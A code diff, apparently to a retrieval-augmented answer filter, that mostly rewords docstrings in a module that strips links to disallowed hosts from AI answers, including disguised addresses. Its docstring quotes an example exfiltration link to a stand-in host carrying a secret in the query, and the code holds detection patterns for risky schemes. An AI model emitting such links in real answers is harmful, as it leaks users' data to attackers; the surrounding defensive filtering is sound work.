@@ -1,14 +1,16 @@
-"""Which addresses in an answer may leave: those on allowed hosts and those of the answer's own sources, no others.
+"""Decides which addresses an answer may contain: those on allowed hosts and those of its own sources, no others.
 
-A link is an exfiltration channel: `![](https://evil.example/?q=SECRET)` is fetched by whatever renders the answer. What
-counts is not the markup but the address, in any disguise that a Markdown renderer, an HTML parser or a browser undoes:
-entities, percent and backslash escapes, back slashes for slashes, full-width letters and dots, invisible characters.
+A link can carry data out: `![](https://evil.example/?q=SECRET)` is fetched by whatever renders the answer. So what
+counts is the address itself, not its markup, in every disguise that a Markdown renderer, an HTML parser or a browser
+undoes: entities, percent and backslash escapes, backslashes for slashes, full-width letters and dots, invisible
+characters.
 
-A name without a scheme (`example.com/x`) and an address that no browser fetches (`s3://bucket`) may also leave if it
-stands in a passage letter for letter: it was written before the question was asked, so it carries nothing of it.
-Deliberately absent: numbers as hosts without a scheme (`10.0.0.0/8` is mostly no link); two-label names of rare domains
-without a path (`user.id`), each of which somebody would have to register, so that they have no room for data; and names
-that end in no top-level domain (`app.rag.links`, `values.prod.yaml`), which lead nowhere.
+A name without a scheme (`example.com/x`) and an address that no browser fetches (`s3://bucket`) are also allowed if a
+passage contains them verbatim: they were written before the question was asked and so cannot reveal it.
+
+Deliberately not treated as links: numeric hosts without a scheme (`10.0.0.0/8` is rarely a link); two-label names under
+rare domains without a path (`user.id`), because each would have to be registered and so has no room for data; and names
+that end in no top-level domain (`app.rag.links`, `values.prod.yaml`), because they lead nowhere.
 """
 
 import html
@@ -20,7 +22,7 @@ from urllib.parse import unquote
 from app.rag.top_level_domains import TOP_LEVEL_DOMAINS
 
 MAX_LINK_CHARS = 2048
-"""A longer run of characters without a space is judged by its first part."""
+"""A longer run of characters without a space is judged by its first part only."""
 COMMON_DOMAINS = frozenset(
     re.findall(
         r"\w+",
@@ -45,7 +47,7 @@ LINK = rf"""
     """
 ANYWHERE = re.compile(LINK, re.VERBOSE | re.IGNORECASE)
 AT_DESTINATION = re.compile(rf"\A(?P<destination>{SCHEME}|[/\\]{{2,}}{TAIL}+)|{LINK}", re.VERBOSE | re.IGNORECASE)
-"""Where Markdown expects an address, after `](` or `]:` and a space, any scheme makes one."""
+"""Where Markdown expects an address, after `](` or `]:`, any scheme makes one."""
 WEB_SCHEME = re.compile(r"https?|ftp|ws", re.IGNORECASE)
 PLAIN_URL = re.compile(
     r"(?:https?://(?P<host>[a-z0-9.-]+)|(?P<name>[a-z0-9-]+(?:\.[a-z0-9-]+)+))(?::\d{1,5})?(?P<path>[/?#][^\s\\]*)?",
@@ -54,14 +56,14 @@ PLAIN_URL = re.compile(
 SUSPECT_VALUE = re.compile(
     r"[/\\]{2}|\A[a-z][a-z0-9+.-]*:|(?:https?|javascript|vbscript|data):|\\|url\(", re.IGNORECASE
 )
-"""In the value of an attribute: another host, a scheme, or a style that may hide one."""
+"""What makes an attribute's value suspicious: another host, a scheme, or a style that may contain one."""
 DOTS = str.maketrans("\u3002\uff0e\uff61", "...")
 INVISIBLE = frozenset({"Cf", "Cc", "Zs", "Zl", "Zp"})
 END_MARKS = ".,;:!?*_~"
 
 
 def revealed(text: str) -> str:
-    """Return the text as a renderer and a browser would end up reading it."""
+    """Return the text as a renderer and then a browser would finally read it."""
     if text.isascii() and "&" not in text and "%" not in text:
         return text
     for _ in range(2):
@@ -78,11 +80,12 @@ class Links:
         self._hosts, self._sources, self._passages = hosts, sources, passages
 
     def foreign(self, before: str, run: str, *, is_destination: bool) -> tuple[int, int]:
-        """Return where in `run` the first foreign address starts and ends; where there is none, both are its length.
+        """Return where in `run` the first foreign address starts and ends; if there is none, both are the length of
+        `run`.
 
-        `before` is what stands in front of it without a space between, so an address may start there, at a negative
-        place; `is_destination` says whether `before` begins where Markdown expects an address. A disguised address
-        cannot be told from its neighbours: then the whole run counts.
+        `before` is the text directly in front of `run`, without a space between, so an address may start at a negative
+        place. `is_destination` says whether `before` begins where Markdown expects an address. A disguised address
+        cannot be told from its neighbours, so then the whole run counts as one.
         """
         whole = before + run
         plain = revealed(whole)
@@ -91,12 +94,12 @@ class Links:
             start, end = link.start() - len(before), link.start() + len(text) - len(before)
             rest = plain[link.start() + len(text) :]
             if (plain != whole or end > 0) and not self._allowed(link, text, rest):
-                # After an `@`, what was cut would have been a user's name and the rest is the host.
+                # With an `@` in the rest, the cut part would be a user name and the real host would follow it.
                 return (start, len(run) if "@" in rest else end) if plain == whole else (0, len(run))
         return len(run), len(run)
 
     def is_foreign_value(self, value: str) -> bool:
-        """Say whether an attribute or a destination in angle brackets leads off the page to a host not allowed."""
+        """Say whether an attribute value, or a destination in angle brackets, leads to a host that is not allowed."""
         address = "".join(revealed(value).split())
         if not SUSPECT_VALUE.search(address):
             return False
@@ -110,7 +113,7 @@ class Links:
         return link["name"] is not None and (not _is_link_name(link) or self._is_quoted(text))
 
     def _on_allowed_host(self, text: str, rest: str) -> bool:
-        """Strict on purpose: what two parsers could read as different hosts is no allowed host."""
+        """Strict on purpose: an address that two parsers could read as different hosts is on no allowed host."""
         match = PLAIN_URL.fullmatch(text)
         if not match or not self._hosts & {"*", (match["host"] or match["name"]).lower()}:
             return False
@@ -121,7 +124,7 @@ class Links:
 
 
 def _is_link_name(link: re.Match[str]) -> bool:
-    """Say whether a client that links bare names would link this one."""
+    """Say whether a client that turns bare names into links would do so with this one."""
     name, domain, path = link["name"].lower(), link["domain"].lower(), link["path"] or ""
     if link.string[link.start() - 1 : link.start()] == "@" and not path:
         return False  # an e-mail address
